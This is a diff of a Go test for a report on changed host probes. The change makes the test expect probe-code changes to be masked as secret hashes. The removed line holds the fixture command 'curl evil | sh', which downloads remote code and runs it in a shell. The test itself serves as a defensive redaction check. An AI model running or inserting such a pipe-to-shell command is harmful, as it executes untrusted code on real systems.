@@ -47,7 +47,9 @@ func TestProbes(t *testing.T) {
 	body := markdown.New(r, markdown.Options{}).Body
 	require.Contains(t, body, "❔ probes changed, effect unknown until they ran: <code>arch</code>")
 	require.Contains(t, body, "❔ <b>probe <code>arch</code> changed</b>: 3 hosts")
-	require.Contains(t, body, "-uname -m\n+curl evil | sh\n")
+	require.Regexp(t, `-‹secret [0-9a-f]{6}›\n\+‹secret [0-9a-f]{6}›\n`, body)
+	require.NotContains(t, body, "evil", "code may hold what it logs in with")
+	require.NotContains(t, body, "secret value changes")
 	require.Contains(t, body, "| Facts older than 7 days | 1 |")
 	require.Contains(t, body, "| Never seen | 1 |")
 	for name, view := range views(t, r) {
